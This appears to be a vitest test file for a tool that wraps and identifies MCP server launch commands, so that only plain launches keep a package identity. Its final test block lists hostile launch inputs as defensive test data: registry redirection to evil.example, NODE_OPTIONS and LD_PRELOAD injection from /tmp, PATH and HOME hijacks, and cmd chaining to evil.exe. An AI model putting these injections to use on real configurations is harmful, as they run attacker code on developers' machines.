/** One server has one id, however its command is wrapped. */
import { expect, test } from "vitest";
import { launchedServer, unwrapGuard } from "./launch.ts";

const plain = launchedServer("npx", ["-y", "@acme/notes@1.2.3", "--token", "abc"]);

test.each([
  ["C:\\Program Files\\nodejs\\npx.cmd", ["-y", "@acme/notes@1.2.3", "--token", "xyz"]],
  ["cmd", ["/c", "npx", "-y", "@acme/notes@1.2.3", "--token", "abc"]],
  ["C:\\Windows\\System32\\cmd.exe", ["/d", "/s", "/C", "npx.cmd", "-y", "@acme/notes@1.2.3", "--token", "abc"]],
  ["/usr/bin/env", ["LANG=C", "npx", "-y", "@acme/notes@1.2.3", "--token", "abc"]],
])("%s %j starts the same server", (command, args) => {
  expect(launchedServer(command, args)).toEqual(plain);
  expect(plain.package).toEqual({ registry: "npm", name: "@acme/notes", version: "1.2.3" });
});

test.each([
  ["sluice", ["guard", "--", "npx", "-y", "x"]],
  ["/home/me/.local/share/sluice/sluice", ["guard", "--client", "cursor", "--", "npx", "-y", "x"]],
  ["C:\\Sluice\\sluice.cmd", ["guard", "--", "cmd", "/c", "npx", "-y", "x"]],
  ["/usr/bin/node", ["/opt/sluice/sluice.mjs", "guard", "--", "npx", "-y", "x"]],
  ["npx", ["sluice", "guard", "--", "npx", "-y", "x"]],
  ["cmd", ["/c", "sluice", "guard", "--", "npx", "-y", "x"]],
])("%s %j is guarded, and x is what it guards", (command, args) => {
  expect(unwrapGuard({ command, args })).toEqual({ kind: "guarded", launch: { command: "npx", args: ["-y", "x"] } });
});

test("a guarded URL is that server", () => {
  expect(unwrapGuard({ command: "sluice", args: ["guard", "--url", "https://host.example/mcp"] })).toEqual({ kind: "guarded-url", url: "https://host.example/mcp" });
});

test.each([
  ["evil", ["guard", "--", "npx", "-y", "x"]],
  ["./sluice", ["guard", "--", "npx", "-y", "x"]],
  ["node", ["sluice.mjs", "guard", "--", "npx", "-y", "x"]],
  ["node", ["/tmp/not-sluice.mjs", "guard", "--", "npx"]],
  ["sluice", ["events", "--", "npx"]],
  ["npx", ["other-sluice", "guard", "--", "npx"]],
])("%s %j does not count as guarded", (command, args) => {
  expect(unwrapGuard({ command, args }).kind).toBe("plain");
});

test("a shell line behind cmd /c stays whole", () => {
  expect(launchedServer("cmd", ["/c", "npx thing & calc"]).command).toBe("cmd");
});

test.each([
  ["env", ["npm_config_registry=http://evil.example", "npx", "-y", "@acme/notes"]],
  ["env", ["LANG=C", "NPM_CONFIG_REGISTRY=http://evil.example", "npx", "-y", "@acme/notes"]],
  ["env", ["NODE_OPTIONS=--import=/tmp/evil.mjs", "npx", "-y", "@acme/notes"]],
  ["env", ["PATH=/tmp/evil", "npx", "-y", "@acme/notes"]],
  ["env", ["LD_PRELOAD=/tmp/evil.so", "npx", "-y", "@acme/notes"]],
  ["env", ["UV_INDEX_URL=http://evil.example", "uvx", "acme-notes"]],
  ["env", ["HOME=/tmp/evil", "npx", "-y", "@acme/notes"]],
  ["cmd", ["/c", "npx", "-y", "@acme/notes", "&", "evil.exe"]],
  ["cmd", ["/c", "npx", "-y", "@acme/notes&evil.exe"]],
  ["cmd", ["/c", "npx", "-y", "@acme/notes", "|evil.exe"]],
])("attack: %s %j starts something else as well, so it borrows no identity", (command, args) => {
  const server = launchedServer(command, args);
  expect(server.package).toBeUndefined();
  expect(server.command).toBe(command);
});
